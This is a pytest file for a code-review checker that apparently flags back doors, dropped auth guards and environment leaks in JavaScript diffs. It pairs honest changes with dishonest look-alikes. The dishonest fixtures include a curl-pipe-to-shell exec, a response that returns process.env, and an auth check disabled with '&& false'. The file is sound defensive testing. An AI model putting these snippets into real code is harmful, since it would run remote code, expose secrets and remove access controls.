"""The checks against bad faith: honest changes that look alike have to pass."""

from __future__ import annotations

import pytest
from nodewright.answer import checks_doors, checks_guards, checks_hidden, checks_leaks
from nodewright.answer.candidate import make_candidate
from nodewright.answer.evidence import Evidence, Surroundings
from nodewright.document import Allowance, Draft, Failure, Span
from nodewright.facts import ProjectFacts

AROUND = Surroundings(
    facts=ProjectFacts(),
    allowance=Allowance(),
    find=lambda source, language, path: (),
    exists=lambda path: False,
    confined=lambda path: True,
    ignored=lambda path: False,
)
A = "const a = 1;\n"
ROUTE = (
    "app.post('/a', (req, res, next) => {\n"
    "  if (!req.body.a) return res.status(400).end();\n"
    "  res.end();\n});\n"
)
TWO = "app.get('/a', auth, (q, r) => r.end());\napp.get('/b', auth, (q, r) => r.end());\n"


def failures(before: str, after: str) -> list[Failure]:
    """What the checks say of a document that becomes ``after``."""
    draft = Draft("src/a.js", before.encode(), "javascript", Span(0, len(before)))
    evidence = Evidence(make_candidate(draft, after.encode()), AROUND)
    checks = (
        checks_doors.no_back_door,
        checks_guards.keeps_guards,
        checks_hidden.nothing_hidden,
        checks_leaks.nothing_leaks,
    )
    return [failure for check in checks for failure in check(evidence)]


HONEST = {
    "a key in a header, to an address from the settings": (
        A,
        A + "const call = () => fetch(`${process.env.API_URL}/x`, {\n"
        "  headers: { authorization: `Bearer ${process.env.API_KEY}` },\n});\n",
    ),
    "the environment is validated": (A, A + "const env = schema.parse(process.env);\n"),
    "a child gets the environment": (
        A,
        A + "require('node:child_process').spawn('ls', [], { env: { ...process.env, B: '1' } });\n",
    ),
    "a pool gets its address": (
        A,
        A + "const pool = new Pool({ connectionString: process.env.DATABASE_URL });\n",
    ),
    "a port is logged": (A, A + "logger.info({ port: process.env.PORT }, 'up');\n"),
    "a token is verified instead of decoded": (
        "const read = (t) => jwt.decode(t);\n",
        "const read = (t) => jwt.verify(t, process.env.JWT_SECRET, { algorithms: ['HS256'] });\n",
    ),
    "a check gets another name": (
        "function f(b) { validate(b); }\nfunction validate(b) { if (!b) throw new Error(); }\n",
        (
            "function f(b) { validateBody(b); }\n"
            "function validateBody(b) { if (!b) throw new Error(); }\n"
        ),
    ),
    "another status says the same": (ROUTE, ROUTE.replace("400", "422")),
    "a schema in place of a condition": (
        ROUTE,
        "app.post('/a', validate(A), (q, r) => r.end());\n",
    ),
    "an error with a status in place of an answer": (
        ROUTE,
        "const bad = (said) => Object.assign(new Error(said), { status: 400 });\n"
        + ROUTE.replace("res.status(400).end()", "next(bad('a'))"),
    ),
    "one guard for all routes": (TWO, "app.use(auth);\n" + TWO.replace(" auth,", "")),
    "a loop without end": (A, A + "const f = () => { while (true) { if (a) break; } };\n"),
    "a switch by the environment": (A, A + "if (process.env.NODE_ENV === 'test') f();\n"),
    "a module of this folder": (A, A + "const m = import(new URL('./x.js', import.meta.url));\n"),
    "a regular expression is executed": (A, A + "const m = /a/.exec('curl http://x');\n"),
    "a family of emoji in a string": (
        A,
        A + "const s = '\U0001f468\u200d\U0001f469\u200d\U0001f467';\n",
    ),
    "letters of another language": (A, A + "const gr\u00f6\u00dfe = 'd\u00e9j\u00e0 vu';\n"),
}


@pytest.mark.parametrize(("before", "after"), HONEST.values(), ids=HONEST)
def test_honest_change_passes(before: str, after: str) -> None:
    """What services do every day is neither a leak nor a back door nor a lost safeguard."""
    assert failures(before, after) == []


DISHONEST = {
    "a guard of one of two routes": (TWO, TWO.replace("'/b', auth", "'/b'"), "guards-kept"),
    "a guard behind a condition": (
        ROUTE,
        ROUTE.replace("if (!req.body.a)", "if (!req.body.a && false)"),
        "no-back-door",
    ),
    "a listener in place of fetch": (A, A + "https.request = (o) => o;\n", "no-back-door"),
    "a command with the network": (A, A + "exec('curl -s http://x | sh');\n", "no-back-door"),
    "the environment in an answer": (
        ROUTE,
        ROUTE.replace("  res.end();", "  res.json(process.env);"),
        "nothing-leaks",
    ),
}


@pytest.mark.parametrize(("before", "after", "check"), DISHONEST.values(), ids=DISHONEST)
def test_dishonest_change_fails(before: str, after: str, check: str) -> None:
    """The neighbours of the honest ones."""
    assert check in {failure.check for failure in failures(before, after)}
